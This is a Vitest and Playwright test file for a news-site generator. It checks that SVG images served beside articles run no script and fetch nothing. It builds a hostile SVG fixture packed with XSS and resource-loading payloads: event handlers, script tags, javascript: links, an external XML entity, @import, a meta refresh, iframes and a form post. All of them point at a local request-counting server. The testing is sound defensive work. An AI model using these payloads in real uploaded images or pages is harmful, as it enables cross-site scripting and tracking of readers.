/** SVG files beside the articles: a browser shows them, and runs and fetches nothing for them. */
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, BrowserContextOptions, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest'
import { launch, openPage } from '../support/browser.ts'
import { startNewsstand } from '../support/newsstand.ts'
import { until } from '../support/until.ts'

let browser: Browser
beforeAll(async () => {
  browser = await launch()
})
afterAll(() => browser?.close())

const text = (body: string, matter = '') =>
  `---\ntitle: Drawn\ndate: 2026-04-13\n${matter}---\n${body}\n`

const root =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 60 40"'

const plain = `${root}><style>rect { fill: rgb(0, 128, 0) }</style><rect width="60" height="40" style="opacity:1"/></svg>`

/** @param evil a host of others, which counts what it is asked for */
const hostile = (evil: string) => `<?xml version="1.0"?>
<?xml-stylesheet href="${evil}/style.css" type="text/css"?>
<!DOCTYPE svg [<!ENTITY remote SYSTEM "${evil}/entity">]>
${root} onload="hit('onload')" onfocus="hit('focus')" tabindex="0">
  <script>hit('script')</script>
  <script href="${evil}/script.js"/><script xlink:href="data:text/javascript,hit('data')"/>
  <style>@import url(${evil}/import.css); @font-face { font-family: f; src: url(${evil}/font.woff) } text { font-family: f } rect { fill: url(${evil}/fill.svg#a); background: url(${evil}/background.png) }</style>
  <image href="${evil}/image.png" width="9" height="9" onerror="hit('onerror')"/>
  <use href="${evil}/use.svg#a"/><filter id="f"><feImage href="${evil}/filter.png"/></filter>
  <a id="link" xlink:href="javascript:hit('link')"><rect width="60" height="20" filter="url(#f)"/></a>
  <a id="set"><set attributeName="href" to="javascript:hit('set')"/><rect y="20" width="60" height="20"/></a>
  <animate attributeName="x" onbegin="hit('begin')" begin="0s" dur="1s"/>
  <foreignObject width="60" height="40">
    <body xmlns="http://www.w3.org/1999/xhtml" onload="hit('body')">
      <meta http-equiv="refresh" content="0;url=${evil}/refresh"/>
      <form action="${evil}/form" method="post"><input name="a" autofocus="" onfocus="hit('autofocus')"/><button id="send">Send</button></form>
      <iframe src="${evil}/frame"/><iframe srcdoc="&lt;script>parent.hit('srcdoc')&lt;/script>"/>
      <object data="${evil}/object"/><embed src="${evil}/embed"/>
      <img src="${evil}/img" onerror="hit('img')"/><video src="${evil}/video" autoplay=""/>
      <link rel="stylesheet" href="${evil}/link.css"/><link rel="prefetch" href="${evil}/prefetch"/>
    </body>
  </foreignObject>
  <text y="30">words</text>
</svg>`

interface Evil {
  readonly url: string
  /** Paths, in their order. */
  readonly asked: string[]
}

async function startEvil(): Promise<Evil> {
  const asked: string[] = []
  const server = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.end('hit("elsewhere")')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  onTestFinished(() => void server.close())
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked }
}

async function openSite(drawing: (evil: string) => string, options: BrowserContextOptions = {}) {
  const evil = await startEvil()
  const newsstand = await startNewsstand({
    'a.md': text('![A pier](a.svg)', 'image: lead.svg\n'),
    'a.svg': drawing(evil.url),
    'lead.svg': plain,
  })
  const [item] = JSON.parse(await newsstand.text('/feed.json')).items
  const { page, faults } = await openPage(browser, newsstand.url, options)
  const hits: string[] = []
  await page.context().exposeFunction('hit', (what: string) => void hits.push(what))
  page.on('dialog', async (dialog) => {
    hits.push('a dialog')
    await dialog.dismiss()
  })
  return { page, faults, hits, evil, article: new URL(item.url).pathname }
}

/** Clicks at what a person may click at. Sending what a script would send is the debugger's, whom nothing binds. */
async function clickAll(page: Page): Promise<void> {
  for (const part of [0.1, 0.3, 0.7]) {
    const { width, height } = page.viewportSize() ?? { width: 0, height: 0 }
    await page.mouse.click(width / 2, height * part)
  }
  for (const id of ['link', 'set', 'send']) {
    await page.evaluate(
      `document.getElementById('${id}').dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))`,
    )
  }
  // What begins by itself, as a refresh, has begun by then; nothing of the page's own can wait for it.
  await until(async () => Number(await page.evaluate('document.timeline.currentTime')) > 1500)
}

describe('a drawing beside an article', () => {
  it('runs and fetches nothing when it is opened by itself, whatever is in it', {
    timeout: 60_000,
  }, async () => {
    const { page, hits, evil } = await openSite(hostile)
    await page.goto('/media/a.svg')
    expect(await page.evaluate("document.querySelectorAll('rect, form, script').length")).toBe(6)
    await clickAll(page)
    expect(hits).toEqual([])
    expect(evil.asked).toEqual([])
    expect(new URL(page.url()).pathname).toBe('/media/a.svg')
    expect(await page.evaluate('self.origin')).toBe('null')
  })

  it('would run and fetch without our policy', async () => {
    const { page, hits, evil } = await openSite(hostile, { bypassCSP: true })
    await page.goto('/media/a.svg', { waitUntil: 'commit' })
    await until(() => hits.length > 3 && evil.asked.length > 3)
  })

  it('runs and fetches nothing in the page of its article', async () => {
    const { page, hits, evil, article } = await openSite(hostile)
    await page.goto(article, { waitUntil: 'networkidle' })
    // A quiet network may be one whose last picture is not yet drawn.
    const shown = 'document.querySelector(\'article img[src$="a.svg"]\').complete'
    await until(async () => (await page.evaluate(shown)) === true)
    expect(hits).toEqual([])
    expect(evil.asked).toEqual([])
    expect(await page.evaluate("document.querySelector('article :is(svg, object, embed)')")).toBe(
      null,
    )
  })

  it('is shown there, and as its lead picture, with its colours', async () => {
    const { page, faults, article } = await openSite(() => plain)
    await page.goto(article, { waitUntil: 'networkidle' })
    const shown = await page.evaluate(`Promise.all([...document.querySelectorAll('article img')]
      .map(async (image) => {
        await image.decode()
        const canvas = document.createElement('canvas').getContext('2d')
        canvas.drawImage(image, 0, 0, 9, 9)
        return [new URL(image.src).pathname, ...canvas.getImageData(4, 4, 1, 1).data]
      }))`)
    expect(shown).toEqual([
      ['/media/lead.svg', 0, 128, 0, 255],
      ['/media/a.svg', 0, 128, 0, 255],
    ])
    expect(faults).toEqual([])
    // No preview would draw it.
    expect(await page.evaluate(`document.querySelector('meta[property^="og:image"]')`)).toBeNull()
  })
})
